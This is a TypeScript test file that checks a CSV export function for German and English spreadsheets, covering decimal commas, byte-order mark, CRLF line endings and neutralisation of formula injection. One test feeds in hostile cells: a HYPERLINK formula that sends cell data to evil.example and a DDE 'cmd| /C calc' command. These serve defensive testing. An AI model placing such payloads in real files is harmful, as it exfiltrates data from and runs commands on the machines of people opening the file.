import { describe, expect, it } from 'vitest';
import { csvText } from './downloadCsv.ts';

/** Reads a CSV as a German spreadsheet does: ';' separates, ',' is the decimal mark, ="…" is text. */
function readAsGermanSpreadsheet(text: string) {
  const lines = text.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
  return lines.map((line) =>
    (line.match(/("([^"]|"")*"|[^;]*)(;|$)/g) ?? [])
      .filter((c, i, all) => !(i === all.length - 1 && c === ''))
      .map((raw) => raw.replace(/;$/, ''))
      .map((cell) => {
        if (/^="(.*)"$/.test(cell)) return cell.slice(2, -1);
        if (/^"(.*)"$/s.test(cell)) return cell.slice(1, -1).replace(/""/g, '"');
        if (/^-?\d+(,\d+)?$/.test(cell)) return Number(cell.replace(',', '.'));
        return cell;
      }),
  );
}

describe('CSV for spreadsheets', () => {
  const text = csvText('de', 'Versorgungsatlas: Rangliste; Kita, unter 6 Jahre, 500 m; Stand 25.11.2026', ['Gebiet', 'Anteil in Reichweite (%)', 'Längengrad', 'Code'], [
    ['Nordmarkt', 99.7, 7.4640123, { code: '022' }],
    ['Hafen "Nord"', 100, null, { code: '023' }],
  ]);

  it('keeps codes as text, numbers as numbers with the decimal comma (6 decimals at most), and the note first', () => {
    const [note, header, first, second] = readAsGermanSpreadsheet(text);
    expect(note).toEqual(['Versorgungsatlas: Rangliste; Kita, unter 6 Jahre, 500 m; Stand 25.11.2026']);
    expect(header).toEqual(['Gebiet', 'Anteil in Reichweite (%)', 'Längengrad', 'Code']);
    expect(first).toEqual(['Nordmarkt', 99.7, 7.464012, '022']);
    expect(second).toEqual(['Hafen "Nord"', 100, '', '023']);
  });

  it('starts with a byte-order mark and ends lines with CRLF, as Excel expects', () => {
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toContain('\r\n');
    expect(text).toContain('99,7;7,464012;="022"');
  });

  it('writes English files with commas and decimal points', () => {
    expect(csvText('en', 'note', ['a', 'b'], [[1.5, 'x,y']])).toBe('\uFEFFnote\r\na,b\r\n1.5,"x,y"\r\n');
  });

  it('neutralises texts a spreadsheet would run as formulas, keeps numbers as numbers', () => {
    const rows = readAsGermanSpreadsheet(
      csvText('de', '=cmd|note', ['Name', 'Wert'], [
        ['=HYPERLINK("http://evil.example/?"&A1;"Klick")', -2.5],
        ['+SUM(1;2)', 3],
        ['-2+3+cmd|\' /C calc\'!A0', null],
        ['@SUM(1)', null],
        ['\t=1+1', null],
        ['\r=1+1', null],
        ['Kita Borsigplatz - Nord', 0],
        ['< 5', null],
      ]),
    );
    expect(rows[0]).toEqual(["'=cmd|note"]);
    expect(rows[2]).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1;"Klick")', -2.5]);
    expect(rows.slice(3, 8).map((r) => String(r[0])[0])).toEqual(["'", "'", "'", "'", "'"]);
    expect(rows[3][1]).toBe(3);
    expect(rows[8]).toEqual(['Kita Borsigplatz - Nord', 0]);
    expect(rows[9][0]).toBe('< 5');
  });
});
